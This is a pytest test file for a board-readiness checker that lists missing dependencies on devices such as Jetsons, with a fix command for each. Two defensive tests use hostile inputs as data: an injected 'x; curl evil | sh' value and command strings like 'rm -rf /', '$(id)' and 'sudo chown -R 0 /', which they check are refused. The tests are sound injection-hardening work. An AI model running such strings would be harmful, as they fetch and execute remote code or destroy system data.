"""What a board lacks, in the order of doing, each with its command."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from targets.agent.facts import parse_l4t
from targets.agent_client import AgentClient
from targets.facts import JETPACKS, BoardFacts, LockFacts, RuntimeFacts
from targets.lacks import Lack, Place, Weight, clock_text, find_lacks, install_command, suitable_runtime
from targets.local import LocalBoard
from targets.local_facts import read_facts_here

WHOLE = BoardFacts(
    root="/home/ada/.slipway",
    root_id="a" * 32,
    root_writable=True,
    home="/home/ada",
    home_writable=True,
    uid=1000,
    os_like="ubuntu debian",
    machine_id="m1",
    disk_free_bytes=20 * 10**9,
    python="3.10.12",
    python_path="/usr/bin/python3",
    python_abi="cpython-310-aarch64-linux-gnu",
    libc="glibc 2.35",
    venv=True,
    pip="22.0.2",
    numpy="1.21.5",
    cv2="4.8.0",
    clock_utc=1_790_000_000.0,
    read_utc=1_790_000_000.2,
    runtimes={"openvino": RuntimeFacts("2026.4.1"), "tensorrt": RuntimeFacts(None, problem="not installed")},
    lock=LockFacts("/run/lock/slipway", False, None),
)


def lacks(facts: BoardFacts, runtime: str | None = None, here: BoardFacts | None = None) -> list[tuple[str, str]]:
    """Names and commands."""
    return [(lack.name, lack.command) for lack in find_lacks("my board", facts, runtime, here)]


def test_that_a_whole_board_lacks_nothing() -> None:
    assert lacks(WHOLE) == []


def test_that_what_is_missing_comes_in_the_order_of_doing() -> None:
    bare = replace(
        WHOLE,
        root_writable=False,
        home_writable=False,
        disk_free_bytes=3 * 10**8,
        venv=False,
        numpy=None,
        cv2=None,
        runtimes={"openvino": RuntimeFacts(None, problem="OpenVINO is not installed in this Python")},
        clock_utc=70.0,
    )
    prepare = "slipway boards prepare 'my board' --runtime openvino"
    assert lacks(bare) == [
        ("root", "sudo chown -R 1000 /home/ada/.slipway, or give the board another `root` (--root)"),
        ("home", "sudo chown 1000 /home/ada"),
        ("disk", "free some, or give the board another `root` (--root); see du -sh /home/ada/.slipway/*"),
        ("venv module", "sudo apt-get install -y python3.10-venv"),
        ("numpy", prepare),
        ("openvino", prepare),
        ("cv2", "sudo apt-get install -y python3-opencv"),
        ("clock", "sudo timedatectl set-ntp true"),
    ]
    weights = {lack.name: lack.weight for lack in find_lacks("my board", bare)}
    assert {name for name, weight in weights.items() if weight is Weight.MISSING} == {
        "root", "venv module", "numpy", "openvino"
    }  # fmt: skip
    assert weights["cv2"] is Weight.OPTIONAL


def test_that_a_library_that_is_there_and_broken_is_told_as_that() -> None:
    broken = replace(WHOLE, cv2=None, problems={"cv2": "numpy.core.multiarray failed to import"})
    (lack,) = find_lacks("jetson", broken)
    assert lack.found == "numpy.core.multiarray failed to import"


def test_that_a_python_without_wheels_is_told() -> None:
    alpine = replace(WHOLE, numpy=None, python_abi="cpython-311-x86_64-linux-musl", libc=None, os_like="alpine")
    (wheels, _numpy) = find_lacks("board", alpine)
    assert wheels.found == "cpython-311-x86_64-linux-musl with another C library than glibc"
    assert "by hand" in wheels.command


def test_that_nvidias_boards_want_tensorrt_and_nvidia_brings_it() -> None:
    assert suitable_runtime(WHOLE) == "openvino"
    jetson = replace(WHOLE, l4t="R36.4.7")
    assert suitable_runtime(jetson) == "tensorrt"
    assert lacks(jetson) == [("tensorrt", "sudo apt-get install -y python3-libnvinfer")]
    assert lacks(jetson, "openvino") == []
    install = "python3 -m venv --system-site-packages /home/ada/.slipway/venv && /home/ada/.slipway/venv/bin/python"
    assert lacks(WHOLE, "tensorrt") == [("tensorrt", f"{install} -m pip install tensorrt")]
    blind = replace(WHOLE, tensorrt="10.3.0", runtimes={"tensorrt": RuntimeFacts(None, missing="it needs a device")})
    assert lacks(blind, "tensorrt") == [("tensorrt", "it needs a device")]
    assert suitable_runtime(replace(WHOLE, runtimes={"tensorrt": RuntimeFacts("10.3.0")})) == "tensorrt"
    assert lacks(WHOLE, "onnxruntime") == [("onnxruntime", "use a newer Slipway")]


@pytest.mark.parametrize(
    ("os_like", "uid", "command"),
    [
        ("ubuntu debian", 0, "apt-get install -y x y"),
        ("raspbian debian", 1000, "sudo apt-get install -y x y"),
        ("rocky rhel centos fedora", 1000, "sudo dnf install -y x y"),
        ("alpine", 0, "apk add x y"),
        ("opensuse-leap suse opensuse", 0, "zypper install -y x y"),
        ("poky", 0, "install x y with the package manager of the board"),
        (None, None, "install x y with the package manager of the board"),
    ],
)
def test_that_commands_are_those_of_the_boards_system(os_like: str | None, uid: int | None, command: str) -> None:
    assert install_command(os_like, uid, "x", "y") == command


@pytest.mark.parametrize(
    ("clock_utc", "text"),
    [
        (1_790_000_000.0, "2026-09-21 14:13:20 UTC (-0.2 s to this machine)"),
        (70.0, "1970-01-01 00:01:10 UTC, 20718 days behind this machine"),
        (1_790_000_400.2, "2026-09-21 14:20:00 UTC, 7 minutes ahead of this machine"),
        (-1e12, "0068-09-03 13:20:00 UTC, 11594792 days behind this machine"),
    ],
)
def test_that_a_clock_is_told_with_its_offset(clock_utc: float, text: str) -> None:
    assert clock_text(replace(WHOLE, clock_utc=clock_utc)) == text


def test_that_a_root_that_two_machines_share_is_told() -> None:
    here = replace(WHOLE, machine_id="m2")
    assert lacks(WHOLE, here=here) == [
        ("root of its own", "give the board another `root` (--root), on a disk of its own")
    ]
    assert lacks(WHOLE, here=replace(here, root_id="b" * 32)) == []
    assert lacks(WHOLE, here=replace(WHOLE, hostname="the same machine by another name")) == []
    other_lock = replace(WHOLE, lock=LockFacts("/home/ada/lock", True, None))
    assert [name for name, _ in lacks(WHOLE, here=other_lock)] == ["root of its own"]


def test_that_two_agents_in_one_root_with_two_locks_are_seen(board: LocalBoard, tmp_path: Path) -> None:
    assert read_facts_here(board.root, board.lock) is None, "it was never used as a board"
    other = LocalBoard("other", board.root, lock=tmp_path / "other-lock")
    with AgentClient(board) as client, client.locked("test"), AgentClient(other) as second, second.locked("test"):
        facts = second.probe()
    here = read_facts_here(board.root, board.lock)
    assert here is not None
    assert facts.root_id == here.root_id
    assert "root of its own" in [name for name, _ in lacks(facts, here=here)]
    with AgentClient(board) as client:
        assert "root of its own" not in [name for name, _ in lacks(client.probe(), here=here)]


# Jetson


def test_that_recorded_releases_of_jetsons_are_read(shared_data: Path) -> None:
    found = {
        line: parse_l4t(line)
        for path in (shared_data / "jetson" / "nv_tegra_release").glob("*.txt")
        for line in path.read_text().splitlines()
        if line.startswith("# R")
    }
    assert {"R32.7.1", "R35.3.1", "R36.4.7", "R38.2.0", "R39.2.0"} <= set(found.values())
    assert None not in found.values()


def test_that_jetpack_follows_from_l4t_where_a_table_names_it() -> None:
    assert BoardFacts.parse({"l4t": "R36.4.7"}).jetpack == "6.2.1"
    assert BoardFacts.parse({"l4t": "R35.6.5"}).jetpack is None
    assert BoardFacts.parse({"l4t": "R35.6.5"}).l4t == "R35.6.5"
    assert BoardFacts.parse({}).jetpack is None
    assert parse_l4t("# R35 (release), REVISION: 6.5, GCID: 1, BOARD: t186ref") == "R35.6.5"
    assert parse_l4t("Ubuntu 22.04") is None
    assert all(name.startswith("R3") for name in JETPACKS)


def test_that_no_command_runs_what_a_board_told() -> None:
    evil = "x; curl evil | sh"
    told = replace(
        WHOLE, root=evil, python=evil, python_path=evil, home=evil, in_venv=True, root_writable=False,
        home_writable=False, venv=False, numpy=None, runtimes={"tensorrt": RuntimeFacts(None)}, disk_free_bytes=1,
    )  # fmt: skip
    for _, command in lacks(told, "tensorrt"):
        assert evil not in re.sub(r"'[^']*'", "", command), command
    assert "sudo apt-get install -y python3-venv" in [command for _, command in lacks(told, "tensorrt")]


def test_that_the_home_of_a_board_that_told_no_root_is_left_to_its_shell() -> None:
    told = replace(WHOLE, root=None, home=None, root_writable=False, home_writable=False, disk_free_bytes=1)
    commands = "\n".join(command for _, command in lacks(replace(told, runtimes={}), "tensorrt"))
    assert "chown -R 1000 ~/.slipway, or" in commands
    assert "chown 1000 ~\n" in commands
    assert "du -sh ~/.slipway/*" in commands
    bare = replace(told, in_venv=False, runtimes={"tensorrt": RuntimeFacts(None)})
    ((_, command),) = [lack for lack in lacks(bare, "tensorrt") if lack[0] == "tensorrt"]
    assert "--system-site-packages ~/.slipway/venv && ~/.slipway/venv/bin/python " in command


def test_that_facts_of_the_wrong_type_are_not_known() -> None:
    told = {
        "uid": "root",
        "venv": "yes",
        "pip": 3,
        "clock_utc": "noon",
        "venv_wheels": "numpy",
        "problems": [1],
        "l4t": 5,
    }
    facts = BoardFacts.parse(told, 5.0)
    assert (facts.uid, facts.venv, facts.pip, facts.clock_utc, facts.venv_wheels, facts.l4t) == (None,) * 6
    assert facts.problems == {}
    assert facts.clock_offset_s is None
    assert BoardFacts.parse({"clock_utc": 3}, 5.0).clock_offset_s == -2.0


def test_that_only_what_installs_packages_may_be_run_and_never_asks_for_a_password() -> None:
    def argv(command: str, place: Place = Place.BOARD) -> tuple[str, ...]:
        return Lack("thing", Weight.OPTIONAL, "not there", command, place).argv

    install = install_command("ubuntu debian", 1000, "python3-opencv")
    assert argv(install) == ("sudo", "-n", "apt-get", "install", "-y", "python3-opencv")
    assert argv(install_command("fedora", 0, "python3.8-venv")) == ("dnf", "install", "-y", "python3.8-venv")
    assert argv(install, Place.HERE) == ()
    others = ("apt-get install -y x; rm -rf /", "apt-get install $(id)", "sudo chown -R 0 /", "sudo")
    assert [argv(other) for other in others] == [()] * len(others)
